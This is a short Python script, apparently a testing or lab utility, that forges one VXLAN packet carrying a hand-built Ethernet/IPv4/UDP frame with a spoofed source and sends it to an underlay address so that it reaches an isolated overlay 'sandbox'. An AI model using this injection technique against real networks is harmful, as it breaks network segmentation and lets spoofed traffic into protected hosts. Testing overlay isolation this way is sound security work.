"""Send one forged VXLAN packet: argv = underlay address, VNI, inner destination MAC, inner
source IP, inner destination IP, inner UDP port, payload text. The inner frame is Ethernet +
IPv4 + UDP (checksum 0), as a LAN host would craft it to reach an overlay's sandbox."""

import socket
import struct
import sys

underlay, vni, dst_mac, src_ip, dst_ip, port, text = sys.argv[1:8]


def checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


payload = text.encode()
udp = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
ethernet = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex("02000000f00d") + b"\x08\x00"
vxlan = struct.pack("!II", 0x08000000, int(vni) << 8)  # flags: the VNI is valid; VNI, reserved
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(vxlan + ethernet + ip + udp, (underlay, 4789))
